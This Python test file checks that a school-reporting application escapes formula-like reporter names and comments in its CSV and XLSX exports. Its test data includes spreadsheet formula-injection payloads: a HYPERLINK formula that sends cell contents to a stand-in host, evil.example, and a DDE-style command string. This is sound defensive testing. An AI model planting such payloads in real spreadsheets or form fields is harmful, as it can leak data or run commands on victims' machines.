"""Spreadsheet safety: a reporter's name or comment that starts like a formula ("=", "+", "-",
"@", tab, CR) is plain text in the exported CSV and XLSX — read back from the produced files."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select

from conftest import PLANS, PROJECT_ROOT
from knowledge import models
import reporting as rp
from knowledge.db import make_session_factory
from knowledge.ingest import ingest_paths
from reporting.exports import FORMULA_STARTS, export_report, neutralise

EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
              "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """Cần Thơ's units; one approved reporter per formula-like name, each reporting with a
    formula-like comment."""
    url = f"sqlite:///{tmp_path_factory.mktemp('kb') / 'kb.sqlite3'}"
    factory = make_session_factory(url)
    assert all(r.ok for r in ingest_paths(sorted(PLANS.glob("cantho*.txt")), factory, show_progress=False))
    schools = ["Châu Văn Liêm", "Đoàn Thị Điểm", "Trần Quốc Toản", "THCS Lê Quý Đôn Cần Thơ", "Hoa Sen", "Châu Văn Liêm"]
    with factory() as s:
        rp.import_units(PROJECT_ROOT / "samples" / "units.csv", session=s)
        targets = s.execute(select(models.Target.id).join(models.Document).where(
            models.Document.plan == "cantho-148-2017").order_by(models.Target.id)).scalars().all()
        for i, (name, school) in enumerate(zip(EVIL_NAMES, schools)):
            reporter = rp.register_reporter("rest", f"evil{i}", name, school, "0912345678", session=s)
            rp.approve_reporter(reporter.id, session=s)
            rp.save_report(reporter.id, targets[i], "năm 2024", 50, "=1+2 " + name, f"evil-{i}", session=s)
    yield factory
    factory.kw["bind"].dispose()


def _formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("\t=x") == "'\t=x"
    assert neutralise("Nguyễn Văn A") == "Nguyễn Văn A" and neutralise(-5.0) == -5.0 and neutralise(None) is None


def test_csv_has_no_formula_cell(evil, tmp_path: Path) -> None:
    with evil() as s:
        path = export_report("cantho-148-2017", "năm 2024", "csv", tmp_path, session=s)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _formula_like(c)]
    authors = {row[9] for row in rows[1:] if row[4] == "đơn vị"}
    # names are stored cleaned of edge spaces, so "\t=1+1" is "=1+1" by then: every one is escaped
    assert len(authors) == len({n.strip() for n in EVIL_NAMES}) and all(a.startswith("'") for a in authors), authors
    assert any(a.startswith("'=HYPERLINK(") for a in authors)


def test_xlsx_has_no_formula_cell(evil, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    with evil() as s:
        path = export_report("cantho-148-2017", "năm 2024", "xlsx", tmp_path, session=s)
    book = load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("'=HYPERLINK("):
                    found.append(cell.value)
    assert found, "the reporter's name is missing from the workbook"
    # numbers stay numbers (a spreadsheet can still sum them)
    values = [c.value for s in book.worksheets for row in s.iter_rows(min_row=4) for c in row[7:8]
              if c.value is not None]
    assert 50 in values
